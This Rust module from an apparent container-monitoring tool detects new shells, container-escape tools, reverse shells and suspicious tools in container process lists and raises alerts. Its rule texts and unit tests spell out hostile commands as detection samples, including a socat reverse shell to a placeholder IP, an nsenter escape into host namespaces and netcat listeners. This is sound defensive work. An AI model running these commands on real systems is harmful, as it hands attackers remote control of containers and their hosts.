//! Process lists (`GET /containers/{id}/top`): shells and known tools that appeared since
//! the previous poll. Processes are keyed by pid + command line, so a restarted process is
//! new again. The first poll of a container sets the baseline: its main process (the
//! lowest pid) is never reported; any other shell or tool already running is reported
//! once, marked when it predates seawall.

use super::command_analysis::{self, ToolKind};
use super::exec::tool_meta;
use super::meta::AlertMeta;
use super::{Alert, ContainerRef, command_display};
use crate::model::{ContainerFacts, ProcessRow};
use crate::risk::Severity;
use chrono::{DateTime, Utc};
use std::collections::{HashMap, HashSet};

use Severity::{High as H, Low as L, Medium as M};

pub const SHELL: AlertMeta = AlertMeta::new(
    "SW-ACT-PROC-001",
    L,
    "Shell process started in container",
    "T1059.004",
    "Unix Shell",
    "A shell that is not the container's main process means someone or something is running \
     commands inside: an exec, an attach, or an exploited application spawning /bin/sh.",
    "Look at its parent and command (docker top <c> -o pid,ppid,user,args); if no operator \
     started it, isolate the container.",
    5,
);
pub const ESCAPE_TOOL: AlertMeta = AlertMeta::new(
    "SW-ACT-PROC-002",
    H,
    "Container escape tool running",
    "T1611",
    "Escape to Host",
    "nsenter, unshare, mount, kernel module loaders and runtime clients running inside a \
     container are escape tooling, whoever started them.",
    "Treat as an active escape attempt: isolate or stop the container, keep its evidence and \
     check the host.",
    30,
);
pub const REVERSE_SHELL: AlertMeta = AlertMeta::new(
    "SW-ACT-PROC-003",
    H,
    "Reverse shell running in container",
    "T1095",
    "Non-Application Layer Protocol",
    "A process handing a shell to a network peer (nc -e, socat exec:, /dev/tcp) gives remote \
     control of the container.",
    "Isolate the container's network and note the remote address.",
    20,
);
pub const SUSPICIOUS_TOOL: AlertMeta = AlertMeta::new(
    "SW-ACT-PROC-004",
    M,
    "Suspicious tool running in container",
    "T1059",
    "Command and Scripting Interpreter",
    "Download, network, scanning, sniffing, decoding and package tools are rarely part of a \
     workload; running in a container they are usually someone's hands-on activity.",
    "Check who started it (docker top with ppid, recent execs in the feed) and what it talks \
     to.",
    5,
);

/// The process rules.
pub fn metas() -> Vec<AlertMeta> {
    vec![SHELL, ESCAPE_TOOL, REVERSE_SHELL, SUSPICIOUS_TOOL]
}

/// Processes named in one alert.
const MAX_LISTED: usize = 5;
/// Processes remembered per container.
const MAX_TRACKED: usize = 10_000;

/// What the caller knows about the container beyond its processes.
#[derive(Debug, Clone, Copy, Default)]
pub struct ProcessContext<'a> {
    /// seawall saw the container (re)start.
    pub watched_from_start: bool,
    /// Command lines of recent execs in this container (shown as "started by docker exec").
    pub recent_execs: &'a [String],
    /// Command lines known to be the container's healthcheck.
    pub healthchecks: &'a [String],
}

/// Per-container process baselines.
#[derive(Debug, Default)]
pub struct ProcessBaselines {
    prev: HashMap<String, HashSet<(String, String)>>,
}

struct Suspect<'a> {
    row: &'a ProcessRow,
    meta: &'static AlertMeta,
    severity: Severity,
    technique: String,
    why: String,
}

fn classify(row: &ProcessRow) -> Option<Suspect<'_>> {
    let analysis = command_analysis::analyse_line(&row.command);
    if let Some(hit) = analysis.worst() {
        let (meta, technique) = match hit.kind {
            ToolKind::Escape => (&ESCAPE_TOOL, ESCAPE_TOOL.technique()),
            ToolKind::ReverseShell => (&REVERSE_SHELL, REVERSE_SHELL.technique()),
            other => (&SUSPICIOUS_TOOL, tool_meta(other).technique()),
        };
        return Some(Suspect {
            row,
            meta,
            severity: hit.severity,
            technique,
            why: hit.what.clone(),
        });
    }
    let shell = analysis.shell?;
    Some(Suspect {
        row,
        meta: &SHELL,
        severity: L,
        technique: SHELL.technique(),
        why: format!("{shell} shell"),
    })
}

/// The main process of a listing: the lowest pid.
fn main_pid(rows: &[ProcessRow]) -> Option<&str> {
    rows.iter()
        .filter_map(|r| {
            r.pid
                .trim()
                .parse::<u64>()
                .ok()
                .map(|p| (p, r.pid.as_str()))
        })
        .min_by_key(|(p, _)| *p)
        .map(|(_, s)| s)
}

impl ProcessBaselines {
    /// Drop a container's baseline.
    pub fn forget(&mut self, id: &str) {
        self.prev.remove(id);
    }

    /// The container (re)started: its next poll is a first poll again.
    pub fn reset(&mut self, id: &str) {
        self.prev.remove(id);
    }

    /// One poll of a container's processes: at most one alert.
    pub fn on_processes(
        &mut self,
        c: &ContainerFacts,
        rows: &[ProcessRow],
        ctx: ProcessContext<'_>,
        time: DateTime<Utc>,
    ) -> Option<Alert> {
        let previous = self.prev.get(&c.id);
        let first_poll = previous.is_none();
        let main = if first_poll { main_pid(rows) } else { None };
        let mut suspects: Vec<Suspect<'_>> = rows
            .iter()
            .filter(|r| previous.is_none_or(|p| !p.contains(&(r.pid.clone(), r.command.clone()))))
            .filter(|r| main != Some(r.pid.as_str()))
            .filter(|r| {
                !ctx.healthchecks
                    .iter()
                    .any(|h| h.trim() == r.command.trim())
            })
            .filter_map(classify)
            .collect();
        let current: HashSet<(String, String)> = rows
            .iter()
            .take(MAX_TRACKED)
            .map(|r| (r.pid.clone(), r.command.clone()))
            .collect();
        self.prev.insert(c.id.clone(), current);
        if suspects.is_empty() {
            return None;
        }
        suspects.sort_by_key(|s| std::cmp::Reverse(s.severity));
        let describe = |s: &Suspect<'_>| {
            let mut text = format!(
                "{}: {} (pid {}, user {})",
                s.why,
                command_display::show_line(&s.row.command),
                s.row.pid,
                s.row.user
            );
            if ctx
                .recent_execs
                .iter()
                .any(|e| e.trim() == s.row.command.trim())
            {
                text.push_str(", started by docker exec");
            }
            text
        };
        let worst = &suspects[0];
        let mut detail = describe(worst);
        if suspects.len() > 1 {
            let others: Vec<String> = suspects[1..]
                .iter()
                .take(MAX_LISTED)
                .map(describe)
                .collect();
            detail.push_str(&format!("; also: {}", others.join("; ")));
            if suspects.len() - 1 > MAX_LISTED {
                detail.push_str(&format!(" (+{} more)", suspects.len() - 1 - MAX_LISTED));
            }
        }
        if first_poll && !ctx.watched_from_start {
            detail.push_str(" (already running when seawall started watching)");
        }
        let bump = suspects
            .iter()
            .map(|s| s.meta.score_bump)
            .max()
            .unwrap_or(0);
        let cref = ContainerRef {
            id: c.id.clone(),
            name: c.name.clone(),
        };
        let mut alert = worst
            .meta
            .alert(time, Some(cref), detail)
            .with_severity(worst.severity)
            .with_score_bump(bump);
        alert.technique = worst.technique.clone();
        Some(alert)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::risk::rules::test_support;

    fn row(pid: &str, cmd: &str) -> ProcessRow {
        ProcessRow {
            pid: pid.into(),
            user: "root".into(),
            command: cmd.into(),
        }
    }

    fn poll(
        b: &mut ProcessBaselines,
        c: &ContainerFacts,
        rows: &[ProcessRow],
    ) -> Option<(String, Severity, String)> {
        b.on_processes(
            c,
            rows,
            ProcessContext {
                watched_from_start: true,
                ..Default::default()
            },
            DateTime::UNIX_EPOCH,
        )
        .map(|a| (a.rule, a.severity, a.detail))
    }

    #[test]
    fn new_shells_and_tools_are_reported_once() {
        let c = test_support::container("{}");
        let mut b = ProcessBaselines::default();
        let base = vec![
            row("100", "/bin/sh -c while true; do sleep 1; done"),
            row("150", "sleep 1"),
        ];
        // First poll: the main process (a shell) is the baseline.
        assert_eq!(poll(&mut b, &c, &base), None);
        // A new shell appears.
        let mut rows = base.clone();
        rows.push(row("200", "sh"));
        let got = poll(&mut b, &c, &rows).expect("alert");
        assert_eq!((got.0.as_str(), got.1), ("SW-ACT-PROC-001", L));
        assert_eq!(got.2, "sh shell: sh (pid 200, user root)");
        // Still running: not again.
        assert_eq!(poll(&mut b, &c, &rows), None);
        // A tool and an escape tool in one poll: one alert, worst first.
        rows.push(row("300", "nc -l -p 4444"));
        rows.push(row("301", "nsenter -t 1 -m -u -i -n sh"));
        let got = poll(&mut b, &c, &rows).expect("alert");
        assert_eq!(
            (got.0.as_str(), got.1),
            ("SW-ACT-PROC-002", Severity::Critical)
        );
        assert!(
            got.2
                .contains("also: nc (raw network connections): nc -l -p 4444 (pid 300"),
            "{}",
            got.2
        );
        // The same command under a new pid is a new process.
        let rows2 = vec![base[0].clone(), row("400", "nc -l -p 4444")];
        let got = poll(&mut b, &c, &rows2).expect("alert");
        assert_eq!((got.0.as_str(), got.1), ("SW-ACT-PROC-004", M));
    }

    #[test]
    fn the_first_poll_reports_tools_that_are_not_the_main_process() {
        let c = test_support::container("{}");
        let mut b = ProcessBaselines::default();
        let rows = vec![
            row("10", "nginx: master process"),
            row("20", "socat TCP:1.2.3.4:1 EXEC:/bin/sh"),
        ];
        let a = b
            .on_processes(&c, &rows, ProcessContext::default(), DateTime::UNIX_EPOCH)
            .expect("alert");
        assert_eq!((a.rule.as_str(), a.severity), ("SW-ACT-PROC-003", H));
        assert!(
            a.detail
                .ends_with("(already running when seawall started watching)"),
            "{}",
            a.detail
        );
        // A main process that is itself a tool is the container's job, not an alert.
        let mut b = ProcessBaselines::default();
        assert_eq!(
            poll(&mut b, &c, &[row("5", "nc -lk -p 80"), row("6", "sleep 5")]),
            None
        );
        // After a restart the next poll is a first poll again.
        b.reset(&c.id);
        assert_eq!(poll(&mut b, &c, &[row("7", "bash")]), None);
    }

    #[test]
    fn healthchecks_and_exec_origin_are_recognised() {
        let c = test_support::container("{}");
        let mut b = ProcessBaselines::default();
        assert_eq!(poll(&mut b, &c, &[row("1", "app")]), None);
        let hc = vec!["/bin/sh -c curl -f localhost".to_string()];
        let execs = vec!["wget http://x/y".to_string()];
        let ctx = ProcessContext {
            watched_from_start: true,
            recent_execs: &execs,
            healthchecks: &hc,
        };
        let rows = vec![row("1", "app"), row("2", "/bin/sh -c curl -f localhost")];
        assert!(
            b.on_processes(&c, &rows, ctx, DateTime::UNIX_EPOCH)
                .is_none()
        );
        let rows = vec![row("1", "app"), row("3", "wget http://x/y")];
        let a = b
            .on_processes(&c, &rows, ctx, DateTime::UNIX_EPOCH)
            .expect("alert");
        assert!(a.detail.contains("started by docker exec"), "{}", a.detail);
        assert_eq!(a.technique, "T1105 Ingress Tool Transfer");
    }
}
